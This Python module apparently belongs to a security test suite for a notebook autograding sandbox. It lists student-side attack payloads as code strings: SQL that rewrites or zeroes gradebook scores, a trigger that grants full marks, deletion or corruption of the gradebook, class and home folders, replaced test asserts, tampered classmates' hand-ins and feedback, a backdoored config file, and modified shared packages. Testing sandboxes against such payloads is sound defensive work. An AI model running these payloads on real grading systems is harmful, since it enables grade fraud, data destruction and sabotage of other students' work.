"""Writing what is somebody else's: scores, tests, hand-ins, settings."""

from ..attack import Attack

KIND = "write"


def of(name: str, about: str, code: str = "", **more: object) -> Attack:
    return Attack(name, KIND, about, code, **more)  # type: ignore[arg-type]


BOOK = '''
import sqlite3
def books():
    return [p for p in (CLASS + "/gradebook.db", "../../../gradebook.db", "../../gradebook.db") if os.path.exists(p)]
def sql(text, **options):
    for path in books():
        def act(path=path):
            with sqlite3.connect(path, timeout=0.5, **options) as db: db.executescript(text)
        quietly(act)
MINE = (" from grade g join submitted_notebook n on n.id = g.notebook_id "
        "join submitted_assignment a on a.id = n.assignment_id\\nwhere a.student_id = '%s'") % ME
'''

ATTACKS = (
    of("gradebook-written", "The student's own scores are written into the gradebook, as a human's.", last=
       "# PRELUDE\n" + BOOK + """
def steps(n): return 7
sql("update grade set manual_score = 2, auto_score = 2, needs_manual_grade = 0 where id in (select g.id" + MINE + ")")
""", code=BOOK + """
sql("update grade_cells set max_score = 100")
"""),
    of("neighbours-scores", "Everybody else's scores are set to zero.", BOOK + """
sql("update grade set auto_score = 0, manual_score = 0 where id not in (select g.id" + MINE + ")")
"""),
    of("sql-trigger", "A trigger in the gradebook turns every score of this student into full marks.", BOOK + """
for moment in ("insert", "update"):
    sql("create trigger bonus_%s after %s on grade begin "
        "update grade set auto_score = 2 where id = new.id and notebook_id in "
        "(select n.id from submitted_notebook n join submitted_assignment a on a.id = n.assignment_id "
        "where a.student_id = '%s'); end;"
        % (moment, moment, ME))
"""),
    of("gradebook-deleted", "The gradebook is deleted.", """
for path in (CLASS + "/gradebook.db", "../../../gradebook.db", "../../gradebook.db"):
    quietly(os.remove, path)
"""),
    of("gradebook-locked", "A detached process keeps the gradebook locked.", BOOK + """
if books() and os.fork() == 0:
    os.setsid()
    db = sqlite3.connect(books()[0], timeout=5, isolation_level=None)
    quietly(db.execute, "begin exclusive")
    time.sleep(20)
    os._exit(0)
""", slow=True),
    of("gradebook-garbage", "Random bytes are written into the middle of the gradebook.", """
for path in (CLASS + "/gradebook.db", "../../../gradebook.db", "../../gradebook.db"):
    def spoil():
        with open(path, "r+b") as file:
            file.seek(100)
            file.write(bytes(range(256)) * 100)
    quietly(spoil)
"""),
    of("tests-neutered", "The tests in the source folder and in the gradebook are replaced for everybody.", BOOK + """
sql("update source_cell set source = 'pass', checksum = null where name like '%-%'")
for path in glob.glob(CLASS + "/source/*/*.ipynb") + glob.glob(COURSE + "/solutions/*/*.py"):
    def spoil(path=path):
        text = open(path).read()
        open(path, "w").write(text.replace("assert ", "BREACH = "))
    quietly(spoil)
"""),
    of("neighbours-deleted", "Hand-ins of others are deleted.", """
import shutil
for path in glob.glob(CLASS + "/submitted/*") + glob.glob("../../../submitted/*"):
    if ME not in path: shutil.rmtree(path, ignore_errors=True)
"""),
    of("neighbours-changed", "A mistake is put into the hand-ins of others.", """
for path in glob.glob(CLASS + "/submitted/*/*/*.ipynb") + glob.glob(CLASS + "/autograded/*/*/*.ipynb"):
    if ME not in path:
        def spoil(path=path):
            text = open(path).read()
            os.chmod(path, 0o644)
            open(path, "w").write(text.replace("return x + x", "return 7  # BREACH"))
        quietly(spoil)
"""),
    of("neighbours-feedback", "Insults are written into the feedback of others.", """
for path in glob.glob(CLASS + "/feedback/*/*/*.html"):
    if ME not in path:
        quietly(os.chmod, path, 0o644)
        quietly(mark, path)
"""),
    of("own-hand-in-changed", "The hand-in itself is changed, so that the next run sees another one.", """
for path in glob.glob(CLASS + "/submitted/" + ME + "/*/*"):
    quietly(mark, path)
quietly(mark, CLASS + "/submitted/" + ME + "/small/timestamp.txt")
"""),
    of("class-deleted", "The whole class folder is deleted.", """
import shutil
shutil.rmtree(CLASS, ignore_errors=True)
shutil.rmtree(COURSE, ignore_errors=True)
shutil.rmtree(HOME, ignore_errors=True)
"""),
    of("class-made-unreadable", "The class folder's rights are taken away.", """
for path in (CLASS + "/submitted/zoe", CLASS + "/gradebook.db", CLASS):
    quietly(os.chmod, path, 0)
"""),
    of("settings-backdoored",
       "An nbgrader_config.py that runs the student's code is put into the class and the home.", """
for folder in (CLASS, COURSE, HOME + "/.jupyter", os.path.expanduser("~/.jupyter")):
    quietly(mark, folder + "/nbgrader_config.py")
    quietly(mark, folder + "/jupyter_config.py")
"""),
    of("temporary-folder-littered", "Files are left in every temporary folder.", """
import tempfile
for folder in {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/run/lock", HOME}:
    quietly(mark, folder + "/breach.py")
"""),
    of("descriptors-truncated", "Every file that the process holds open is truncated and overwritten.", """
for fd in range(3, 256):
    if os.path.isfile(f"/proc/self/fd/{fd}"):
        quietly(os.ftruncate, fd, 0)
        quietly(os.pwrite, fd, b"BREACH", 0)
"""),
    of("packages-changed", "The installed helpers package, which everybody's tests use, is changed.", """
import helpers, numpy
for module in (helpers, numpy):
    folder = os.path.dirname(module.__file__)
    quietly(mark, folder + "/breach.py")
    quietly(mark, module.__file__)
"""),
)  # fmt: skip
